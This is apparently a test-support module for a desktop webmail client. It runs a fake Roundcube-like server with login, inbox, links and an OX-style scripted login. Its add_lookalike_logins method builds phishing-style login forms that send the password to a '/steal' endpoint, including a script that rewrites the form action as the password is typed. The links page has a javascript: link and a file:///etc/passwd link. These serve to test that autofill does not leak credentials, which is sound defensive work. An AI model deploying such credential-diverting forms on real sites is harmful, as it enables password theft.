"""A fake webmail on the test server that answers as Roundcube does: a login whose failure is
HTTP 401, an inbox behind a session cookie with "(N)" in its title only there, logout at
?_task=logout, sessions that expire; plus an OX-like login drawn by script, links to elsewhere,
pop-ups, an attachment, and login pages that try to send the password to a look-alike.

Pages (all on the LocalServer given):
  /          login page (#rcmloginuser/#rcmloginpwd, _user/_pass) or, with a session, the inbox;
             /?_task=logout ends the session
  /login     POST target: sets the session cookie (HttpOnly, Max-Age so it persists), 303 to
             /inbox; a wrong password is 401 with the login page again
  /inbox     the inbox, title "(2) Inbox - Fake Webmail"; 302 to / without a session
  /drafts    a folder: its title has no count
  /links     links elsewhere (same window, target=_blank), javascript:, file:, pop-up, download
  /compose   what the provider's own pop-up shows
  /download/report.pdf   Content-Disposition: attachment
  /ox        an OX App Suite-like login whose form appears by script after 500 ms
  /notify    asks for notification permission and shows one when granted
"""

from __future__ import annotations

import json
import secrets
from http.cookies import SimpleCookie
from pathlib import Path

from tests.support.localserver import LocalServer, Request, Response

SESSION_COOKIE = "fake_sessid"
PDF_BYTES = b"%PDF-1.4\n% fake attachment\n" + b"0" * 2048 + b"\n%%EOF\n"


def _page(title: str, body: str) -> bytes:
    return (f"<!doctype html><html><head><meta charset='utf-8'><title>{title}</title></head>"
            f"<body>{body}</body></html>").encode()


class FakeWebmail:
    def __init__(self, server: LocalServer, user: str = "jan", password: str = "geheim") -> None:
        self.server = server
        self.user = user
        self.password = password
        self.sessions: set[str] = set()
        self.expired: set[str] = set()
        self.logouts = 0
        self.unread = 2
        for path, handler in {
            "/": self._root, "/login": self._login, "/inbox": self._inbox,
            "/drafts": self._drafts,
            "/links": self._links, "/compose": self._compose, "/ox": self._ox,
            "/download/report.pdf": self._download, "/notify": self._notify,
        }.items():
            server.route(path, handler)

    # Helpers for tests -------------------------------------------------------------------------
    @property
    def start_url(self) -> str:
        return self.server.url("/")

    def other_host_url(self, path: str = "/elsewhere") -> str:
        """Same server, different host name: outside the provider's allowed hosts."""
        return f"http://localhost:{self.server.port}{path}"

    def provider_entry(self, provider_id: str = "fake", start_path: str = "/") -> dict[str, object]:
        return {
            "id": provider_id,
            "name": "Fake webmail",
            "description": {"en": "The test webmail.", "nl": "De testwebmail."},
            "start_url": self.server.url(start_path),
            "allowed_hosts": ["127.0.0.1"],
            "login_form": {"username": ["#rcmloginuser"], "password": ["#rcmloginpwd"],
                           "signed_in": ["#inbox", "#drafts"]},
        }

    def write_provider_file(self, config_dir: Path, provider_id: str = "fake",
                            start_path: str = "/") -> Path:
        """The user override file (paths.config / providers.json) pointing at this server."""
        config_dir.mkdir(parents=True, exist_ok=True)
        target = config_dir / "providers.json"
        entry = self.provider_entry(provider_id, start_path)
        target.write_text(json.dumps({"version": 1, "providers": [entry]}), encoding="utf-8")
        return target

    def has_session(self, request: Request) -> bool:
        raw = request.header("Cookie")
        if not raw:
            return False
        cookie = SimpleCookie()
        cookie.load(raw)
        morsel = cookie.get(SESSION_COOKIE)
        return morsel is not None and morsel.value in self.sessions

    # Pages -------------------------------------------------------------------------------------
    def _login_page(self, error: str = "") -> Response:
        body = f"""
<form id="login-form" method="post" action="/login">
  <p class="error">{error}</p>
  <label for="rcmloginuser">Username</label>
  <input id="rcmloginuser" name="_user" type="text" autocomplete="username">
  <label for="rcmloginpwd">Password</label>
  <input id="rcmloginpwd" name="_pass" type="password" autocomplete="current-password">
  <button id="rcmloginsubmit" type="submit">Login</button>
</form>"""
        return Response(body=_page("Fake Webmail :: Welcome", body))

    def expire_sessions(self) -> None:
        """Every session ends, as when the server's session lifetime runs out."""
        self.expired = set(self.sessions)
        self.sessions.clear()

    def _session_of(self, request: Request) -> str:
        raw = request.header("Cookie")
        cookie = SimpleCookie()
        if raw:
            cookie.load(raw)
        morsel = cookie.get(SESSION_COOKIE)
        return morsel.value if morsel is not None else ""

    def _root(self, request: Request) -> Response:
        if request.query.get("_task") == ["logout"]:
            self.sessions.discard(self._session_of(request))
            self.logouts += 1
            page = self._login_page("You have successfully terminated the session. Good bye!")
            page.headers["Set-Cookie"] = f"{SESSION_COOKIE}=; Path=/; Max-Age=0"
            return page
        if self.has_session(request):
            return self._inbox(request)
        if self._session_of(request) in self.expired:
            return self._login_page("Your session is invalid or expired.")
        return self._login_page()

    def _login(self, request: Request) -> Response:
        if request.method != "POST":
            return Response(303, headers={"Location": "/"})
        form = request.form()
        if form.get("_user") != [self.user] or form.get("_pass") != [self.password]:
            failed = self._login_page("Login failed.")
            failed.status = 401  # as Roundcube answers a failed login
            return failed
        token = secrets.token_hex(16)
        self.sessions.add(token)
        cookie = (f"{SESSION_COOKIE}={token}; Path=/; HttpOnly; Max-Age=86400; "
                  "SameSite=Lax")
        return Response(303, headers={"Location": "/inbox", "Set-Cookie": cookie})

    def _inbox(self, request: Request) -> Response:
        if not self.has_session(request):
            return Response(302, headers={"Location": "/"})
        title = f"({self.unread}) Inbox - Fake Webmail" if self.unread else "Inbox - Fake Webmail"
        body = "<h1 id='inbox'>Inbox</h1><ul><li>Welkom bij ZeelandNet</li><li>Factuur</li></ul>"
        return Response(body=_page(title, body))

    def _drafts(self, request: Request) -> Response:
        if not self.has_session(request):
            return Response(302, headers={"Location": "/"})
        return Response(body=_page("Drafts - Fake Webmail", "<h1 id='drafts'>Drafts</h1>"))

    def add_lookalike_logins(self, lookalike: str) -> dict[str, str]:
        """Login pages on this (the provider's) origin that would send the password to
        `lookalike` (another port of 127.0.0.1) or put it in an address. name -> URL."""
        fields = ('<input id="rcmloginuser" name="_user" type="text">'
                  '<input id="rcmloginpwd" name="_pass" type="password">')
        pages = {
            "form action elsewhere":
                f'<form method="post" action="{lookalike}/steal">{fields}'
                '<button id="rcmloginsubmit" type="submit">Login</button></form>',
            "button formaction elsewhere":
                f'<form method="post" action="/login">{fields}<button id="rcmloginsubmit" '
                f'type="submit" formaction="{lookalike}/steal">Login</button></form>',
            "307 answer elsewhere":
                f'<form method="post" action="/login-307">{fields}'
                '<button id="rcmloginsubmit" type="submit">Login</button></form>',
            "get form here":
                f'<form method="get" action="/login">{fields}'
                '<button id="rcmloginsubmit" type="submit">Login</button></form>',
            "get form elsewhere":
                f'<form method="get" action="{lookalike}/steal">{fields}'
                '<button id="rcmloginsubmit" type="submit">Login</button></form>',
            "form changed while filled":
                f'<form id="f" method="post" action="/login">{fields}'
                '<button id="rcmloginsubmit" type="submit">Login</button></form>'
                "<script>document.getElementById('rcmloginpwd').addEventListener('input', "
                f"function () {{ document.getElementById('f').action = '{lookalike}/steal'; }});"
                "</script>",
        }
        urls = {}
        for number, (name, body) in enumerate(pages.items()):
            path = f"/lookalike-{number}"
            self.server.route(path, Response(body=_page("Fake Webmail :: Welcome", body)))
            urls[name] = path
        self.server.route("/login-307", Response(
            307, headers={"Location": f"{lookalike}/steal"}))
        return urls

    def _links(self, _request: Request) -> Response:
        other = self.other_host_url()
        body = f"""
<h1>Links</h1>
<p><a id="other" href="{other}">another host</a></p>
<p><a id="other-blank" href="{other}?blank=1" target="_blank">another host, new window</a></p>
<p><a id="https-elsewhere" href="https://example.com/">example.com</a></p>
<p><a id="js" href="javascript:document.title='pwned'">script</a></p>
<p><a id="file" href="file:///etc/passwd">file</a></p>
<p><a id="popup" href="/compose" target="_blank">compose (own pop-up)</a></p>
<p><a id="download" href="/download/report.pdf">report.pdf</a></p>"""
        return Response(body=_page("Links - Fake Webmail", body))

    def _compose(self, _request: Request) -> Response:
        return Response(body=_page("Compose - Fake Webmail", "<textarea id='body'></textarea>"))

    def _download(self, _request: Request) -> Response:
        return Response(body=PDF_BYTES, content_type="application/pdf",
                        headers={"Content-Disposition": 'attachment; filename="report.pdf"'})

    def _ox(self, _request: Request) -> Response:
        # OX App Suite draws its login with JavaScript after load; the filler must wait for it.
        body = """
<div id="io-ox-login-screen"></div>
<script>
setTimeout(function () {
  document.getElementById('io-ox-login-screen').innerHTML =
    '<form id="io-ox-login-form" method="post" action="/login">' +
    '<input id="io-ox-login-username" name="_user" type="text">' +
    '<input id="io-ox-login-password" name="_pass" type="password">' +
    '<button id="io-ox-login-button" type="submit">Sign in</button></form>';
}, 500);
</script>"""
        return Response(body=_page("OX App Suite", body))

    def _notify(self, _request: Request) -> Response:
        body = """
<p id="state">asking</p>
<script>
Notification.requestPermission().then(function (answer) {
  document.getElementById('state').textContent = answer;
  if (answer === 'granted') { new Notification('New mail', {body: 'From: Gemeente Middelburg'}); }
});
</script>"""
        return Response(body=_page("Notify - Fake Webmail", body))


# --- a WebmailTab on an isolated profile, pointed at the fake ----------------------------------

class WebmailEnv:
    """What a webmail GUI test needs: the fake, the profile's paths and settings, a tab."""

    def __init__(self, server: LocalServer, profile_dir: Path, downloads: Path) -> None:
        from zeelandnet_desktop import settings as keys
        from zeelandnet_desktop.services.webmail import WebmailService
        from zeelandnet_desktop.settings import Settings
        from zeelandnet_desktop.system import paths as app_paths

        self.fake = FakeWebmail(server)
        self.paths = app_paths.resolve(profile_dir).ensure()
        self.fake.write_provider_file(self.paths.config)
        self.settings = Settings(self.paths.settings_file)
        self.webmail = WebmailService(self.settings, self.paths)
        self.downloads = downloads
        self.settings.set(keys.WEBMAIL_DOWNLOAD_DIR, str(downloads))
        self.tabs: list[object] = []

    def choose_fake(self) -> None:
        from zeelandnet_desktop import settings as keys

        self.settings.set(keys.WEBMAIL_PROVIDER, "fake")

    def make_signin(self, credentials: object, tab: object, *,
                    form_timeout_ms: int):  # type: ignore[no-untyped-def]
        """The sign-in service and its page side, attached to `tab`."""
        from zeelandnet_desktop.services.signin import SigninService
        from zeelandnet_desktop.ui.webmail.signin import WebmailLogin

        signin = SigninService(self.settings, credentials)  # type: ignore[arg-type]
        return WebmailLogin(signin, self.webmail, tab,  # type: ignore[arg-type]
                            form_timeout_ms=form_timeout_ms)

    def make_tab(self):  # type: ignore[no-untyped-def]
        from zeelandnet_desktop.ui.webmail.tab import WebmailTab

        tab = WebmailTab(self.settings, self.webmail)
        tab.resize(1000, 700)
        tab.show()
        self.tabs.append(tab)
        return tab

    def close(self) -> None:
        """Pages before profiles: shutdown() deletes them in that order, then the widget goes."""
        import shiboken6
        from PySide6.QtWidgets import QApplication

        for tab in self.tabs:
            if shiboken6.isValid(tab):
                tab.shutdown()  # type: ignore[attr-defined]
                shiboken6.delete(tab)
        self.tabs.clear()
        QApplication.processEvents()
